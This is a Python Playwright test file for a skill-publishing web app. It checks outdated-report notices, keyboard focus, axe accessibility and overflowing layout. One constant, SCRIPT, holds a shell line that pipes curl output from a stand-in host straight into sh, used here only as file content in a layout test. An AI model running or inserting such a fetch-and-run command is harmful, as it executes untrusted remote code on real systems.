"""A report in Chromium once the form holds something else; focus and lines that are too long."""

from __future__ import annotations

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, Route, expect

from catalog.models import Role, Version
from tests import make
from tests.browser.conftest import OpenPage
from tests.make import Cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
WIDTHS = (1440, 390)
LONG = "a" * 64
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"
# What sticks out of the window on the right, but for what scrolls by itself.
BEYOND = """() => [...document.querySelectorAll("main *")]
  .filter(one => !one.closest("thead, .scroll, .tabs, pre, .diff-split, .editor, .vh, .segment"))
  .filter(one => one.getBoundingClientRect().right > innerWidth + 1)
  .map(one => `${one.tagName}.${one.className}`)"""


@pytest.fixture
def cast() -> Cast:
    return make.cast()


def choose(page: Page, content: bytes, name: str = "SKILL.md") -> None:
    page.set_input_files("#id_file", {"name": name, "mimeType": "text/markdown", "buffer": content})


def judge(page: Page) -> None:
    for theme in ("light", "dark"):
        page.evaluate("theme => { document.documentElement.dataset.theme = theme }", theme)
        result = Axe().run(page)
        assert result.violations_count == 0, (theme, page.url, result.generate_report())
    assert page.evaluate(BEYOND) == [], page.url


@pytest.mark.parametrize("width", WIDTHS)
def test_a_changed_form_takes_the_decision_from_the_report(
    open_page: OpenPage, cast: Cast, width: int
) -> None:
    page = open_page("/publish/", user=cast.ines, width=width)
    choose(page, make.skill_md(version="1.0.0", body="See [more](references/none.md).\n"))
    publish = page.get_by_role("button", name="Publish refund-check 1.0.0")
    outdated = page.get_by_text("This report is outdated.", exact=True)
    expect(publish).to_be_visible()
    expect(outdated).to_be_hidden()
    page.get_by_role("checkbox", name="network").check()
    expect(outdated).to_be_visible()
    expect(publish).to_be_hidden()
    expect(page.get_by_text("Checked just now")).to_be_hidden()
    expect(page.locator("#announce")).to_contain_text("This report is outdated.")
    judge(page)
    page.get_by_role("checkbox", name="network").uncheck()
    expect(publish).to_be_visible()
    page.get_by_text("Mend it here").click()
    page.locator("#id_skill_text").fill(make.skill_md(version="1.1.0").decode())
    expect(publish).to_be_hidden()
    page.get_by_role("button", name="Check the form again").click()
    expect(page.get_by_role("button", name="Publish refund-check 1.1.0")).to_be_visible()
    expect(outdated).to_be_hidden()
    assert not Version.objects.exists()


def test_another_file_makes_the_report_outdated_before_the_answer_is_there(
    open_page: OpenPage, cast: Cast
) -> None:
    page = open_page("/publish/", user=cast.ines)
    choose(page, make.skill_md(version="1.0.0"))
    expect(page.get_by_role("button", name="Publish refund-check 1.0.0")).to_be_visible()
    held: list[Route] = []
    page.route("**/publish/check/", lambda route: held.append(route))
    choose(page, make.skill_md(version="2.0.0"), name="skill.md")
    expect(page.get_by_text("This report is outdated.", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Publish refund-check 1.0.0")).to_be_hidden()
    page.get_by_label("Notes").fill("Typed while the check ran.")
    held[0].continue_()
    expect(page.locator("#report")).to_contain_text("Publish refund-check 2.0.0")
    expect(page.get_by_text("This report is outdated.", exact=True)).to_be_visible()
    expect(page.get_by_label("Notes")).to_have_value("Typed while the check ran.")


def test_the_filter_of_the_findings_leaves_the_report_true(open_page: OpenPage, cast: Cast) -> None:
    page = open_page("/publish/", user=cast.ines)
    body = "See [more](references/none.md).\n"
    choose(page, make.skill_md(version="1.0.0", description="Does things.", body=body))
    page.get_by_role("radio", name="Warnings").check()
    expect(page.get_by_role("button", name="Publish refund-check 1.0.0")).to_be_visible()


def test_the_editor_says_so_too(open_page: OpenPage, cast: Cast) -> None:
    make.version(cast=cast)
    page = open_page("/skills/refund-check/versions/1.0.0/edit/", user=cast.ines)
    page.locator("#id_skill_text").fill(make.skill_md(version="1.1.0").decode())
    page.get_by_role("button", name="Check", exact=True).click()
    expect(page.get_by_text("Can be published")).to_be_visible()
    expect(page.get_by_text("This report is outdated.", exact=True)).to_be_hidden()
    page.locator("#id_skill_text").fill("")
    expect(page.get_by_text("This report is outdated.", exact=True)).to_be_visible()
    page.get_by_role("button", name="Publish as a new version").click()
    expect(page.get_by_text("Nothing was published")).to_be_visible()
    expect(page.locator("#result")).to_contain_text("SKILL.md is empty.")
    judge(page)
    assert Version.objects.count() == 1


def test_the_check_starts_once_the_team_is_chosen(open_page: OpenPage, cast: Cast) -> None:
    make.grant(cast.ines, Role.PUBLISHER, team=cast.support)
    page = open_page("/publish/", user=cast.ines)
    choose(page, make.skill_md(version="1.0.0"))
    expect(page.locator("#report")).to_contain_text("Choose the team that owns the skill.")
    page.get_by_label("Team").select_option("payments")
    expect(page.get_by_role("button", name="Publish refund-check 1.0.0")).to_be_visible()


def test_from_the_form_to_the_version_by_keyboard_alone(open_page: OpenPage, cast: Cast) -> None:
    page = open_page("/publish/", user=cast.ines)
    page.get_by_text("Paste a SKILL.md instead of a file").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.insert_text(make.skill_md("Bad_Name").decode())
    expect(page.locator("#id_text")).to_be_focused()
    page.get_by_role("button", name="Check", exact=True).focus()
    page.keyboard.press("Enter")
    expect(page.locator("#report-h")).to_be_focused()
    line = page.locator("a[data-line]").first
    for _step in range(20):
        if line.evaluate("one => one === document.activeElement"):
            break
        page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("#id_skill_text")).to_be_focused()
    page.keyboard.press("Control+A")
    page.keyboard.insert_text(make.skill_md("till-close", version="1.0.0").decode())
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Check again")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#report-h")).to_be_focused()
    publish = page.get_by_role("button", name="Publish till-close 1.0.0")
    page.keyboard.press("Tab")
    expect(publish).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_url("**/skills/till-close/versions/1.0.0/")


@pytest.mark.parametrize("width", WIDTHS)
def test_a_page_with_errors_begins_at_the_first_of_them(open_page: OpenPage, cast: Cast, width: int) -> None:
    make.version(cast=cast)
    page = open_page("/skills/refund-check/settings/", user=cast.ines, width=width)
    page.get_by_role("button", name="Delete the skill…").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete the skill").click()
    expect(page.locator("#delete-confirm")).to_be_focused()
    expect(page.locator("#delete-confirm")).to_be_in_viewport()


@pytest.mark.parametrize("width", WIDTHS)
def test_nothing_long_leaves_the_window(open_page: OpenPage, cast: Cast, width: int) -> None:
    files = {f"scripts/{'b' * 120}.sh": SCRIPT}
    for number in ("1.0.0", "1.1.0"):
        make.version(LONG, number, cast=cast, files={**files, f"assets/{number}{'c' * 90}.txt": b"c" * 300})
    finding = Version.objects.all()[0].findings.filter(severity="warning")[0]
    base = f"/skills/{LONG}/"
    page = open_page("/publish/", user=cast.ines, width=width)
    choose(page, make.skill_md(LONG, version="2.0.0", body=f"See [x](references/{'n' * 150}.md).\n"))
    expect(page.get_by_role("button", name="2.0.0")).to_be_visible()
    assert page.evaluate(BEYOND) == []
    for address in (
        base,
        f"{base}files/",
        f"{base}versions/",
        f"{base}versions/1.0.0/",
        f"{base}versions/1.0.0/edit/",
        f"{base}versions/1.0.0/yank/",
        f"{base}versions/{finding.version.version}/findings/{finding.fingerprint}/appeal/",
        f"{base}compare/",
        f"{base}settings/",
        f"{base}releases/propose/",
        "/",
    ):
        page.goto(address)
        assert page.evaluate(BEYOND) == [], address
